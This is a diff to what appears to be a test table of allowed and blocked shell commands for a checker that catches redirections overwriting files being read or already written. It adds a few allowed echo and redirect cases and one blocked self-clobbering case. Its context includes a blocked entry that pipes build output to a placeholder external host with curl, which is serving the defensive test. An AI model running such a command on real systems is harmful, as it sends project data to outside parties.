@@ -72,6 +72,10 @@ ALLOWED = [
     ("posix", "sort data/names.txt > data/sorted.txt"),
     ("posix", "pytest > out.txt; cat out.txt"),  # read after it is written
     ("posix", "echo '' > empty.out"),  # empty: nothing to lose
+    # a printer's words are text, not files it reads first
+    ("posix", "umask 022 && echo mode > mode"),
+    ("posix", "echo $VERSION > build/test.log"),
+    ("powershell", "Write-Output version > version"),
     ("posix", "echo x > src/__init__.py"),  # tracked but empty
     ("posix", "pytest | tee report.txt"),
     ("posix", "make 2>&1 | tee build/make.log"),
@@ -132,6 +136,7 @@ BLOCKED = [
     ("posix", "make | tee >(curl -d @- http://x.example)"),
     ("powershell", "'DEBUG=1' | Out-File .env"),
     ("posix", "sort data/names.txt > data/names.txt"),  # read and emptied by the same line
+    ("posix", "echo mode && cat mode > mode"),
     ("posix", "cat coverage.lcov | sort > coverage.lcov"),
     ("posix", "mv README.md new.txt; echo x > new.txt"),
     ("posix", "pytest > x.log; make > x.log"),  # written twice
